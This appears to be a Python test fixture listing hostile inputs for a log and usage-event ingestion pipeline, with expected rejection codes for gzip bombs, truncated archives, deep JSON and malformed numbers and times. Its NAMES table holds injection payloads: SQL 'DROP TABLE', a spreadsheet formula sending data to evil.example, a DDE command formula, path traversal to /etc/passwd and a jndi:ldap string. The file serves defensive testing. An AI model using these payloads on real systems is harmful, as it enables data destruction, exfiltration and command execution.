"""Hostile input, one case a row: what lands, and what must become of each record or of the whole object.

In a line, <id> stands for an identity of its own. What becomes of a record is a reason code, or the quantity
that counts; what becomes of a whole object is a reason code.
"""

import gzip
import json
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

from tests.events import evening, event

MAX_OBJECT_BYTES = 64 << 20  # of the contracts under test: a bomb need not fill the disk
Line = str | bytes


@dataclass(frozen=True)
class Case:
    name: str
    given: Sequence[Line] | bytes  # lines, or the bytes of the object as they are
    becomes: Sequence[str] | str
    row: dict = field(default_factory=dict)  # columns of the first accepted row
    key: str = ""  # last part of the object's key, where the case is about it
    stream: str = "app_usage"

    def body(self, number: int) -> bytes:
        if isinstance(self.given, bytes):
            return self.given
        lines = [
            (one.encode() if isinstance(one, str) else one).replace(
                b"<id>", b"h%d-%d" % (number, n)
            )
            for n, one in enumerate(self.given)
        ]
        if self.stream == "cloudtrail":
            return gzip.compress(b'{"Records":[' + b",".join(lines) + b"]}", mtime=0)
        text = b"\n".join(lines) + b"\n"
        return text if self.stream == "s3_access" else gzip.compress(text, 1, mtime=0)


def line(raw: str | None = None, **fields: object) -> str:
    """An event as JSON; `raw` is JSON text in place of its quantity, 1."""
    made: dict[str, Any] = {"id": "<id>"} | fields
    text = json.dumps(event(**made))
    return text if raw is None else text.replace('"quantity": 1', f'"quantity": {raw}')


def with_field(text: str, value: str) -> str:
    """The event with one field more, as JSON text."""
    return '{"x": ' + value + "," + text[1:]


def call(**fields: object) -> str:
    """A record of an audit log; `bytes_out` is JSON text."""
    bytes_out = fields.pop("bytes_out", None)
    base = {
        "eventID": "<id>",
        "eventTime": "2026-11-18T10:00:00Z",
        "eventSource": "s3.amazonaws.com",
        "eventName": "GetObject",
        "recipientAccountId": "111122223333",
    }
    text = json.dumps(base | fields)
    return (
        text
        if bytes_out is None
        else (f'{text[:-1]}, "additionalEventData": {{"bytesTransferredOut": {bytes_out}}}}}')
    )


def access(
    key: str = "t-1/a.png", size: str = "512", time: str = "18/Nov/2026:10:00:00 +0000"
) -> str:
    return (
        f"own media [{time}] - arn:aws:iam::1:user/u <id> REST.GET.OBJECT {key} "
        f'"GET /" 200 - {size} 512 7 6 "-" "agent" - more'
    )


GOOD = line()
PACKED = gzip.compress(f"{line(id='packed')}\n".encode() * 50, mtime=0)
NAMES = {
    "quotes": """O'Brien "& Sons\"""",
    "newline": "two\nlines\r\n",
    "SQL": "x'); DROP TABLE usage_daily; --",
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"pay")'.replace("192.0.2.1", "evil.example"),
    "at sign formula": "@SUM(1+9)*cmd|' /C calc'!A0",
    "terminal escape": "\x1b[2J\x1b]0;owned\x07",
    "right to left": "t-\u202e1",
    "NUL": "t\x00-1",
    "path": "../../etc/passwd",
    "composed": "caf\u00e9",
    "decomposed": "cafe\u0301",
    "blank around": "  t-1 ",
    "very long": "t" * 100_000,
    "template": "{{ 7*7 }}${jndi:ldap://x}%s%n",
}

OBJECTS = [
    Case("truncated gzip", PACKED[:-9], "object_truncated"),
    Case("gzip cut in its header", PACKED[:5], "object_truncated"),
    Case("second member truncated", gzip.compress(b"{}\n") + PACKED[:-1], "object_truncated"),
    Case("not gzip at all", GOOD.encode(), "object_not_gzip"),
    Case("bytes behind the gzip", PACKED + b"bytes that are no member", "object_not_gzip"),
    Case("gzip with a wrong checksum", PACKED[:-8] + b"\0" * 8, "object_not_gzip"),
    Case("gzip bomb", gzip.compress(b"0" * (MAX_OBJECT_BYTES + 1), 1), "object_too_large"),
    Case("bomb of many members", gzip.compress(b"0" * (8 << 20), 1) * 9, "object_too_large"),
    Case("gzip within gzip", gzip.compress(gzip.compress(b"{}", mtime=0), mtime=0), ["not_utf8"]),
    Case("empty object", b"", []),
    Case("empty gzip", gzip.compress(b""), []),
    Case("blank lines alone", gzip.compress(b"\n \t\r\n\n"), []),
    Case(
        "multi-member gzip, a record across two members",
        gzip.compress(line(id="m1").encode() + b"\n" + line(id="m2").encode()[:40])
        + gzip.compress(line(id="m2").encode()[40:]),
        ["1", "1"],
    ),
]
LINES = [
    Case("BOM", [b"\xef\xbb\xbf" + GOOD.encode()], ["1"]),
    Case("BOM in the second line", [GOOD, b"\xef\xbb\xbf" + GOOD.encode()], ["1", "not_json"]),
    Case("UTF-16", gzip.compress(GOOD.encode("utf-16")), ["not_utf8"]),
    Case("CRLF", [GOOD + "\r", "\r", GOOD + "\r"], ["1", "1"]),
    Case("CR alone is no line end", [GOOD + "\r" + GOOD], ["not_json"]),
    Case(
        "invalid UTF-8",
        [GOOD, GOOD.encode().replace(b"t-1", b"t\xff1"), GOOD],
        ["1", "not_utf8", "1"],
    ),
    Case("surrogates as UTF-8", [GOOD.encode().replace(b"t-1", b"\xed\xa0\x80")], ["not_utf8"]),
    Case("lone surrogate, escaped", [line(subject="\ud800")], ["not_json"]),
    Case(
        "NUL bytes", [GOOD.replace("t-1", "t\0"), "\0", GOOD + "\0", GOOD], ["not_json"] * 3 + ["1"]
    ),
    Case(
        "a line of 50 MB",
        [GOOD, with_field(GOOD, f'"{"y" * 50_000_000}"'), GOOD],
        ["1", "line_too_long", "1"],
    ),
    Case("cut line", [GOOD[:-30], GOOD], ["not_json", "1"]),
    Case("no object", ["[]", "null", '"x"', "7", "NaN", GOOD + GOOD, "{'a': 1}"], ["not_json"] * 7),
    Case(
        "comment and control character",
        [GOOD + " // x", GOOD.replace("t-1", "t\t1")],
        ["not_json"] * 2,
    ),
    Case("empty record", ["{}"], ["no_identity"]),
]
DEEP = "[" * 10_000 + "]" * 10_000
JSON = [
    Case("nested 10,000 deep", [with_field(GOOD, DEEP), GOOD], ["too_deep", "1"]),
    Case(
        "nested 10,000 deep, objects",
        [with_field(GOOD, '{"a":' * 10_000 + "1" + "}" * 10_000)],
        ["too_deep"],
    ),
    Case("nested 10,000 deep, never closed", ['{"a":' * 10_000], ["too_deep"]),
    Case("deep enough", [with_field(GOOD, "[" * 199 + "]" * 199)], ["1"]),
    Case(
        "repeated key",
        [GOOD.replace('"id": "<id>"', '"id": "<id>", "id": "other"')],
        ["repeated_key"],
    ),
    Case("repeated key, nested", [line('1, "quantity": 2'), GOOD], ["repeated_key", "1"]),
    Case(
        "repeated key, escaped",
        [GOOD.replace('"id": "<id>"', '"id": "<id>", "i\\u0064": "x"')],
        ["repeated_key"],
    ),
    Case(
        "repeated key beside a long number",
        [line('0.12345678901234567890, "quantity": 1')],
        ["repeated_key"],
    ),
    Case(
        "keys that differ in case",
        [with_field(GOOD, '1, "Subject": "other"')],
        ["1"],
        {"tenant_id": "t-1"},
    ),
    Case("extra fields", [with_field(GOOD, '{"a": [1, {"id": 2}], "quantity": 9}')], ["1"]),
    Case(
        "missing fields",
        [line(id=None), line(source=None), line(at=None), line(data=None), line(type=None)],
        ["no_identity", "no_identity", "no_time", "no_quantity", "unknown_type"],
    ),
    Case(
        "no tenant",
        [line(subject=None), line(subject="")],
        ["1", "1"],
        {"tenant_id": "UNATTRIBUTED"},
    ),
    Case("another version", [line(specversion="2.0")], ["unknown_version"]),
    Case(
        "types that change between rows",
        [line('"2"'), line("2"), line("[2]"), line('{"n": 2}'), line("true"), line("null")],
        ["2", "2", "wrong_type", "wrong_type", "quantity_not_a_number", "no_quantity"],
    ),
    Case(
        "tenants of other types",
        [line(subject=5), line(subject=["t-1"]), line(subject={"id": "t-1"})],
        ["1", "wrong_type", "wrong_type"],
        {"tenant_id": "5"},
    ),
    Case(
        "data that is no object",
        [line(data="x"), line(data=[{"quantity": 1}])],
        ["no_quantity"] * 2,
    ),
    Case("separator in the identity", [line(source="a\x1fb")], ["no_identity"]),
]
NUMBERS = [
    Case("numbers as strings", [line('"12.5"'), line('"007"'), line('"+5"')], ["12.5", "7", "5"]),
    Case(
        "text that is no number",
        [line(f'"{one}"') for one in ("", " 1", "1,5", "0x10", "1_0", "\u0661", "--1")],
        ["quantity_not_a_number"] * 7,
    ),
    Case(
        "exponents",
        [line("1e3"), line('"1E+3"'), line("25e-1"), line("1.5e-9"), line("1e-10")],
        ["1000", "1000", "2.5", "quantity_too_precise", "quantity_too_precise"],
    ),
    Case(
        "exponents out of range",
        [line("1e400"), line('"1e400"'), line("1e-400"), line('"1e9999"')],
        [
            "quantity_too_large",
            "quantity_too_large",
            "quantity_too_precise",
            "quantity_not_a_number",
        ],
    ),
    Case(
        "NaN and Infinity",
        [line(one) for one in ("NaN", "Infinity", "-Infinity", '"NaN"', '"inf"')],
        ["quantity_not_a_number"] * 5,
    ),
    Case("NaN in a field that nobody reads", [with_field(GOOD, "NaN")], ["1"]),
    Case(
        "40 digits",
        [line("1" * 40), line(f'"{"1" * 40}"'), line("0" * 40 + "1")],
        ["quantity_too_large", "quantity_too_large", "not_json"],
    ),
    Case(
        "30 decimals",
        [line("0." + "1" * 30), line('"0.' + "1" * 30 + '"'), line("1." + "0" * 30)],
        ["quantity_too_precise", "quantity_too_precise", "1"],
    ),
    Case(
        "all digits that fit",
        [line("12345678901234567.123456789")],
        ["12345678901234567.123456789"],
    ),
    Case("5,000 digits in a field that nobody reads", [with_field(GOOD, "9" * 5000)], ["1"]),
    Case(
        "negative quantity",
        [line("-1"), line('"-0.000000001"'), line("-0")],
        ["negative_quantity", "negative_quantity", "0"],
    ),
    Case(
        "sample weights",
        [line(sampledrate=one) for one in (10, "10", 0, -1, 1.5, 10**12, True)],
        ["1", "1"] + ["sample_weight"] * 5,
        {"sample_weight": 10},
    ),
]
TIMES = [
    Case("naive times", [line(at="2026-11-18T10:00:00"), line(at="2026-11-18")], ["no_time"] * 2),
    Case(
        "offset times",
        [line(at="2026-11-18T01:30:00+05:30"), line(at="2026-11-17T23:00:00-01:00")],
        ["1", "1"],
        {"event_time": datetime(2026, 11, 17, 20)},
    ),
    Case(
        "1970", [line(at="1970-01-01T00:00:00Z"), line(at="0000-01-01T00:00:00Z")], ["too_late"] * 2
    ),
    Case(
        "2199",
        [line(at="2199-01-01T00:00:00Z")],
        ["1"],
        {"time_quality": "clamped", "event_time": evening()},
    ),
    Case("9999", [line(at="9999-12-31T23:59:59.999999999Z")], ["1"], {"time_quality": "clamped"}),
    Case(
        "leap second",
        [line(at="2016-12-31T23:59:60Z"), line(at="2026-11-18T23:59:60Z")],
        ["no_time"] * 2,
    ),
    Case(
        "no such time",
        [
            line(at=one)
            for one in ("2026-02-30T00:00:00Z", "2026-11-18T24:00:00Z", "1763460000", "")
        ],
        ["no_time"] * 4,
    ),
    Case(
        "nanoseconds",
        [line(at="2026-11-18T10:00:00.123456789Z")],
        ["1"],
        {"event_time": datetime(2026, 11, 18, 10, 0, 0, 123456)},
    ),
]
VALUES = [
    *(
        Case(f"tenant: {name}", [line(subject=one)], ["1"], {"tenant_id": one})
        for name, one in NAMES.items()
    ),
    *(
        Case(f"label: {name}", [line(feature=one)], ["1"], {"labels": {"feature": one}})
        for name, one in NAMES.items()
    ),
    Case("meters", [line(type=one) for one in NAMES.values()], ["unknown_type"] * len(NAMES)),
    Case("a tenant that is an address", [line(subject="jane@example.com")], ["personal_data"]),
]
KEYS = [
    Case(f"key: {name}", [GOOD], ["1"], key=name)
    for name in (
        *(
            "with space",
            "a=b",
            "year=1999",
            "a%2Fb",
            "a%252Fb",
            "a..b",
            "..",
            "ünïcödé-名前",
            "a+b&c",
            "a'b\"c",
        ),
        *(
            "a;b?c#d",
            "(a)[b]{c}*",
            "new\nline",
            "\x1b[31m+0+900",
            "x+0+100",
            "\u202eabc",
            "%",
            "$name",
            "x+0+99999999999999999999",
            "x+0+9223372036854775807",
        ),
        *("x+\u0663+\u0664", "-- drop", "a,b"),
    )
]
OTHERS = [
    Case(
        "trail: one bad element",
        [
            call(),
            with_field(call(), DEEP),
            call().replace('"eventName"', '"eventName": 1, "eventName"'),
            "7",
            call(),
        ],
        ["1", "too_deep", "repeated_key", "not_json", "1"],
        stream="cloudtrail",
    ),
    Case(
        "trail: numbers",
        [call(bytes_out=one) for one in ("89.0", "1e400", '"x"', "[1]", "-5", "9" * 5000)],
        [
            "90",
            "quantity_too_large",
            "quantity_not_a_number",
            "wrong_type",
            "negative_quantity",
            "quantity_too_large",
        ],
        stream="cloudtrail",
    ),
    Case(
        "trail: fields",
        [call(eventName=None), call(eventTime="2026-11-18T10:00:00"), call(eventID=["x"])],
        ["no_operation", "no_time", "wrong_type"],
        stream="cloudtrail",
    ),
    Case(
        "trail: array named twice",
        gzip.compress(b'{"Records":[],"Records":[{}]}'),
        "object_repeated_key",
        stream="cloudtrail",
    ),
    Case(
        "trail: no array", gzip.compress(b'{"records":[]}'), "object_not_json", stream="cloudtrail"
    ),
    Case(
        "trail: never closed",
        gzip.compress(b'{"Records":[' + b"[" * 10_000),
        "object_not_json",
        stream="cloudtrail",
    ),
    Case("trail: empty object", b"", "object_not_json", stream="cloudtrail"),
    Case(
        "log: lines",
        [access(), "", "no such line", access(size="-"), access(size="x"), access(size="9" * 40)],
        ["513", "no_match", "1", "quantity_not_a_number", "quantity_too_large"],
        stream="s3_access",
    ),
    Case(
        "log: keys",
        [
            access(key=one)
            for one in ("%25FF/a", "a%2500b/x", "%252e%252e/x", "'--/x", "=1+1/x", "-")
        ],
        ["513"] * 6,
        {"tenant_id": "UNATTRIBUTED"},
        stream="s3_access",
    ),
    Case(
        "log: times",
        [access(time=one) for one in ("31/Feb/2026:10:00:00 +0000", "18/Nov/2026:10:00:60 +0000")],
        ["no_time"] * 2,
        stream="s3_access",
    ),
    Case(
        "log: no request id",
        [access().replace("<id>", "-"), access(size="9").replace("<id>", "-"), access()],
        ["no_identity", "no_identity", "513"],
        stream="s3_access",
    ),
    Case(
        "log: NUL and bytes",
        [access("t\0/x"), access().encode().replace(b"t-1", b"\xff")],
        ["513", "not_utf8"],
        stream="s3_access",
    ),
]
CASES = [*OBJECTS, *LINES, *JSON, *NUMBERS, *TIMES, *VALUES, *KEYS, *OTHERS]
